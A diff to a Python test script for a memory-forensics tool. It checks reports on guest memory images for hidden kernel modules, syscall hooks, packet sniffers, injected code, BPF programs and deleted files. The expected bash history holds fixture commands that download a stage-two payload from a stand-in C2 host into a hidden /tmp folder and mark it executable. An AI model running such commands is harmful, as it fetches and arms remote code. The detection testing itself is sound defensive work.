@@ -6,7 +6,7 @@ usage: memory-check.py HABO FOLDER   (FOLDER as tests/guest/memory-images.sh mad
 """
 import json
 import pathlib
-import re
+import socket
 import subprocess
 import sys
 
@@ -79,6 +79,76 @@ def check_processes(name, report, truth):
                               if r["ppid"] == truth["role"]["zombie"]], ["zombie"])
 
 
+def check_modules(name, report, truth):
+    rows = {row["name"]: row for row in report["modules"]}
+    for line in truth.get("module", []):
+        module, size, *_, address = line.split()
+        row = rows.get(module, {})
+        at = f"{name}: module {module}"
+        expect(f"{at} standing", row.get("standing"), "listed")
+        expect(f"{at} size", row.get("size"), int(size))
+        expect(f"{at} base", row.get("base"), address)
+    hidden = [row["address"] for row in report["modules"] if row["standing"] != "listed"]
+    hooks = [(row["number"], row["target"]) for row in report["syscall_hooks"]]
+    wanted = truth["hidden"]
+    expect(f"{name}: hidden modules", hidden, ["0x" + wanted["module"]] if wanted else [])
+    expect(f"{name}: diverted calls", hooks,
+           [(int(wanted["syscall"]), "0x" + wanted["handler"])] if wanted else [])
+
+
+def ip(word):
+    """An address as /proc/net prints it → as we do."""
+    address, port = word.split(":")
+    packed = b"".join(bytes.fromhex(address[i:i + 8])[::-1] for i in range(0, len(address), 8))
+    if len(packed) == 4:
+        return f"{socket.inet_ntop(socket.AF_INET, packed)}:{int(port, 16)}"
+    return f"[{socket.inet_ntop(socket.AF_INET6, packed)}]:{int(port, 16)}"
+
+
+def check_sockets(name, report, truth):
+    wanted = []
+    for kind in ("tcp", "tcp6", "udp", "raw"):
+        family = "inet6" if kind == "tcp6" else "inet"
+        for line in truth.get(kind, [])[1:]:
+            words = line.split()
+            wanted.append((family, ip(words[1]), ip(words[2])))
+    got = [(r["family"], r["local"], r["remote"]) for r in report["sockets"]
+           if r["family"] in ("inet", "inet6")]
+    expect(f"{name}: sockets", sorted(got), sorted(wanted))
+    listening = sum(line.split()[3] == "0A" for kind in ("tcp", "tcp6")
+                    for line in truth.get(kind, [])[1:])
+    expect(f"{name}: listening", sum(r.get("state") == "listening" for r in report["sockets"]),
+           listening)
+    expect(f"{name}: unix paths", [r.get("local") for r in report["sockets"]
+                                   if r["family"] == "unix"],
+           [line.split()[7] for line in truth.get("unix", [])[1:] if len(line.split()) > 7])
+    sniffers = [(r["pid"], len(r["filter"]), r["filter"][3]) for r in report["sockets"]
+                if r["family"] == "packet"]
+    expect(f"{name}: sniffers", sniffers, [(truth["role"]["sniffer"], 6, "jeq #0x7255 jt 4 jf 5")])
+
+
+def check_actors(name, report, truth):
+    inject = truth["inject"]
+    pid = int(inject["pid"])
+    regions = {(r["pid"], r["kind"]): r for r in report["regions"]}
+    expect(f"{name}: regions", sorted(regions), sorted(
+        [(truth["role"]["memfd"], "memfd_code"), (truth["role"]["deleted"], "deleted_code"),
+         (pid, "changed_code"), (pid, "anonymous_code"), (pid, "writable_code")]))
+    expect(f"{name}: writable code", regions[pid, "writable_code"]["address"], inject["rwx"])
+    expect(f"{name}: anonymous code", regions[pid, "anonymous_code"]["address"], inject["rx"])
+    expect(f"{name}: changed code", regions[pid, "changed_code"]["at"], inject["text"])
+    expect(f"{name}: code bytes", regions[pid, "anonymous_code"]["start"][:16], "554889e531c05dc3")
+    expect(f"{name}: history", [(r["pid"], r["line"]) for r in report["commands"]],
+           [(truth["role"]["bash"], "echo wget http://c2.example/x -O /tmp/.x/stage2"),
+            (truth["role"]["bash"], "echo chmod +x /tmp/.x/stage2")])
+    expect(f"{name}: BPF programs", [(r["name"], r["type"], r["holders"])
+                                     for r in report["bpf_programs"]],
+           [("magic_flt", "socket_filter", [f"{truth['role']['ebpf']} actor"])])
+    loot = [r for r in report["files"] if r["path"] == "/tmp/.x-loot"]
+    expect(f"{name}: deleted file", [(r["pid"], r["size"], r["is_deleted"]) for r in loot],
+           [(truth["role"]["files"], 9, True)])
+
+
 def check_image(habo, image):
     name = image.stem
     truth = read_truth(image.with_suffix(".truth"))
@@ -100,6 +170,9 @@ def check_image(habo, image):
     expect(f"{name}: plugins that did not run",
            [r["name"] for r in report["runs"] if r.get("error")], [])
     check_processes(name, report, truth)
+    check_modules(name, report, truth)
+    check_sockets(name, report, truth)
+    check_actors(name, report, truth)
     print(f"{name}: {report['rung']}, {report['paging_levels']} levels, " +
           ", ".join(f"{r['rows']} {r['name']} in {r['duration_us'] / 1000:.1f} ms"
                     for r in report["runs"]))
